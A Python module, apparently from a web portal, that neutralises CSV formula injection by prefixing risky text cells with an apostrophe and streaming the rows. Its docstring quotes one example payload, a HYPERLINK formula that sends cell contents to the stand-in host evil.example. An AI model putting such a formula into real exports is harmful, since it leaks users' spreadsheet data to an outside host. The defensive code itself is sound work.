"""CSV that is safe to open in a spreadsheet. Every CSV the portal writes goes through here.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return, which some spreadsheets skip before reading the rest as a formula) is
run as a formula by Excel, LibreOffice and Google Sheets: a user agent such as
``=HYPERLINK("http://evil.example/?"&A1)`` in an export would leak the
sheet or worse (OWASP "CSV Injection"). Such text cells get a leading
apostrophe, which spreadsheets show as text. Numbers and dates are written as
they are: ``-3`` as an ``int`` is a number, not a formula.
"""

import csv

# OWASP's list, plus the full-width forms some East Asian spreadsheet locales accept.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def csv_cell(value):
    """``value`` as a cell no spreadsheet evaluates."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class _Echo:
    """A file-like object whose ``write`` hands the line back, for streaming."""

    def write(self, value):
        return value


def csv_lines(header, rows):
    """The lines of a CSV file, header first, every cell passed through ``csv_cell``.

    A generator, for ``StreamingHttpResponse``: rows are read as they are written.
    """
    writer = csv.writer(_Echo())
    yield writer.writerow([csv_cell(cell) for cell in header])
    for row in rows:
        yield writer.writerow([csv_cell(cell) for cell in row])
